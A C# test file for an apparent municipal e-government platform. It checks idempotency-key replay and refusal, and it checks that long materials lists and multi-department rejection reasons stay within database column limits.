        new("ApprovalsService.CreateMatter", "clerk", "/api/approvals/v1/matters",
            new { code = "CX-IDEM-1", name = "Once only", kind = "MATTER_KIND_ON_THE_SPOT", statutoryLimitDays = 5, promisedLimitDays = 1, maxVisits = 1 },
            new { code = "CX-IDEM-1", name = "Twice?", kind = "MATTER_KIND_ON_THE_SPOT", statutoryLimitDays = 5, promisedLimitDays = 1, maxVisits = 1 }),
        new("ApprovalsService.AcceptApplication", "clerk", A + "/{fresh}:accept", new { }, new { id = "{fresh}" }, NeedsFreshApplication: true),
        new("GovernanceService.ReportCase", "grid", "/api/governance/v1/cases",
            new { gridCode = "grid-01-01-1", source = "CASE_SOURCE_GRID_PATROL", category = "litter", description = "Bags by the river." },
            new { gridCode = "grid-01-01-1", source = "CASE_SOURCE_GRID_PATROL", category = "litter", description = "More bags by the river." }),
        new("TalentService.ApplyForCertification", "citizen", "/api/talent/v1/certifications",
            new { tierCode = "E", applicantName = "Wang Fang", employer = "Longgang Tech", sector = "textiles", channel = "TALENT_CHANNEL_INTERNAL_CULTIVATION" },
            new { tierCode = "D", applicantName = "Wang Fang", employer = "Longgang Tech", sector = "textiles", channel = "TALENT_CHANNEL_INTERNAL_CULTIVATION" }),
        new("LivelihoodService.ProposeProject", "citizen", "/api/livelihood/v1/projects",
            new { year = 2026, title = "Benches", category = "PROJECT_CATEGORY_ELDERLY_CARE", districtCodes = new[] { "district-01" }, estimatedCostYuan = "30000", rationale = "Rest." },
            new { year = 2026, title = "More benches", category = "PROJECT_CATEGORY_ELDERLY_CARE", districtCodes = new[] { "district-01" }, estimatedCostYuan = "60000", rationale = "Rest." }),
    ];

    public static TheoryData<string> Names => new(Duplicates.Select(d => d.Name));

    [Theory]
    [MemberData(nameof(Names))]
    public async Task A_repeat_with_the_same_key_is_answered_from_the_first_and_changes_nothing(string name)
    {
        var duplicate = Duplicates.Single(d => d.Name == name);
        var fresh = duplicate.NeedsFreshApplication ? await new ApplicationFactory(fixture, CorpusPlatformFixture.Home).SubmittedAsync() : "";
        var client = fixture.Actor(duplicate.Actor);
        var path = duplicate.Path.Replace("{fresh}", fresh, StringComparison.Ordinal);
        var key = $"dup-{Guid.NewGuid():N}";
        RawRequest Request(object body, string withKey) => new(HttpMethod.Post, path,
            JsonSerializer.Serialize(body).Replace("{fresh}", fresh, StringComparison.Ordinal),
            Headers: new Dictionary<string, string> { [Header] = withKey });

        var first = await RawResponse.SendAsync(client, Request(duplicate.Body, key));
        Assert.True(first.Status == 200, $"the first request failed: {first}");
        await using var jobsHeld = await fixture.Quiet.HoldJobsAsync();
        var before = await fixture.QuietSnapshotAsync();

        var repeat = await RawResponse.SendAsync(client, Request(duplicate.Body, key));
        await AssertNothingChangedAsync(before, "the repeat");
        Assert.True(repeat.Status == 200, $"the repeat was not answered as the first: {repeat}");
        Assert.Equal(first.Body, repeat.Body);
        Assert.Equal("true", Assert.Single(repeat.Headers.GetValues("Idempotency-Replayed")));

        var reused = await RawResponse.SendAsync(client, Request(duplicate.OtherBody, key));
        await AssertNothingChangedAsync(before, "the key reused for another body");
        Assert.True(reused.Status == 422, $"the key reused for another body was not refused with 422: {reused}");
        Problems.AssertNamesCause(reused, Header);

        var overlong = await RawResponse.SendAsync(client, Request(duplicate.OtherBody, new string('k', 101)));
        await AssertNothingChangedAsync(before, "the overlong key");
        foreach (var response in new[] { first, repeat, reused, overlong })
            ProblemAssert.RevealsNothingInternal(ProblemAssert.WithoutCallerAddresses(response.Body), fixture.InternalAddresses);
        Assert.True(overlong.Status == 400, $"an overlong key was not refused with 400: {overlong}");
        Problems.AssertNamesCause(overlong, Header);
    }

    private async Task AssertNothingChangedAsync(DatabaseSnapshot before, string what)
    {
        var after = await fixture.QuietSnapshotAsync();
        var changed = after.Differences(before).ToList();
        Assert.True(changed.Count == 0, $"{what} changed the database: {string.Join("; ", changed)}");
        Assert.Empty(after.NewAuditEntries(before));
    }
}

/// <summary>
/// Valid input at its limits must be stored as PostgreSQL would store it: every text within its column's length
/// (SQLite would take longer ones; PostgreSQL refuses them and the request fails with a 500). Two texts the services
/// compose from several inputs are the risk: the ledger's reason for a correction notice (every material named, up to
/// 50 of 200 characters) and the reason a joint application was rejected (every rejecting department's reason).
/// </summary>
[Collection(CorpusCollection.Name)]
public sealed class ValidInputAtItsLimitsTests(CorpusPlatformFixture fixture)
{
    private const string A = "/api/approvals/v1/applications";

    [Fact]
    public async Task A_correction_notice_naming_fifty_long_materials_is_recorded_within_the_ledgers_column()
    {
        var id = await new ApplicationFactory(fixture, CorpusPlatformFixture.Home).SubmittedAsync(complete: false);
        // the most a notice takes: 49 long names and the one required material still missing (一次性告知: every one)
        var materials = Enumerable.Range(0, 49).Select(i => $"{i:00} " + new string('m', 197)).Append("identity card").ToArray();

        await ApplicationFactory.ExpectOkAsync(fixture.Actor("clerk"), HttpMethod.Post, $"{A}/{id}:requestCorrection", new { materials });

        var application = await ApplicationFactory.ExpectOkAsync(fixture.Actor("citizen"), HttpMethod.Get, $"{A}/{id}");
        var requested = application.GetProperty("requestedCorrections").EnumerateArray().Select(m => m.GetString()).ToArray();
        Assert.Equal(materials.Length, requested.Length);
        Assert.Equal(materials[..^1], requested[..^1]); // the catalogue's own material is answered in the caller's language
        Assert.Empty(SchemaFit.Violations(fixture.Platform.Services, fixture.DataDirectory));
    }

    [Fact]
    public async Task A_joint_application_rejected_by_eight_departments_at_length_keeps_its_reasons_within_their_columns()
    {
        string[] departments =
        [
            "dept-market-supervision", "dept-finance", "dept-social-affairs", "dept-natural-resources",
            "dept-housing-construction", "dept-emergency-management", "dept-economic-development", "dept-development-reform",
        ];
        var lead = fixture.Actor("clerk");
        await ApplicationFactory.ExpectOkAsync(lead, HttpMethod.Post, "/api/approvals/v1/matters", new
        {
            code = "JX-LIMITS-1",
            name = "Eight-department joint matter",
            kind = "MATTER_KIND_JOINT",
            requiredMaterials = new[] { "application form" },
            statutoryLimitDays = 45,
            promisedLimitDays = 30,
            maxVisits = 1,
            participatingDepartments = departments,
        });
        var id = (await ApplicationFactory.ExpectOkAsync(fixture.Actor("citizen"), HttpMethod.Post, A, new
        {
            matterCode = "JX-LIMITS-1",
            applicantName = "Zhou Min",
            channel = "CHANNEL_ONLINE",
            materials = new[] { "application form" },
        })).GetProperty("id").GetString()!;
        // named online, the form is only declared: the clerk sees the original at the counter
        await ApplicationFactory.StepAsync(id, lead, "confirmOriginal", new { material = "application form" });
        await ApplicationFactory.StepAsync(id, lead, "accept", new { });

        // the longest reason a step takes: 500 characters
        static string Reason(string department) => (department + " refuses: " + new string('r', 500))[..500];
        foreach (var department in departments)
        {
            var clerk = fixture.Client(PlatformRoles.Clerk, department: department, subject: $"clerk-{department}");
            await ApplicationFactory.StepAsync(id, clerk, "decide", new { decision = "DECISION_REJECT", reason = Reason(department) });
        }

        var application = await ApplicationFactory.ExpectOkAsync(lead, HttpMethod.Get, $"{A}/{id}");
        Assert.Equal("APPLICATION_STATUS_REJECTED", application.GetProperty("status").GetString());
        // every department's full reason stays on its own step
        Assert.All(application.GetProperty("steps").EnumerateArray(), step =>
            Assert.Equal(Reason(step.GetProperty("departmentCode").GetString()!), step.GetProperty("reason").GetString()));
        Assert.Empty(SchemaFit.Violations(fixture.Platform.Services, fixture.DataDirectory));
    }
}
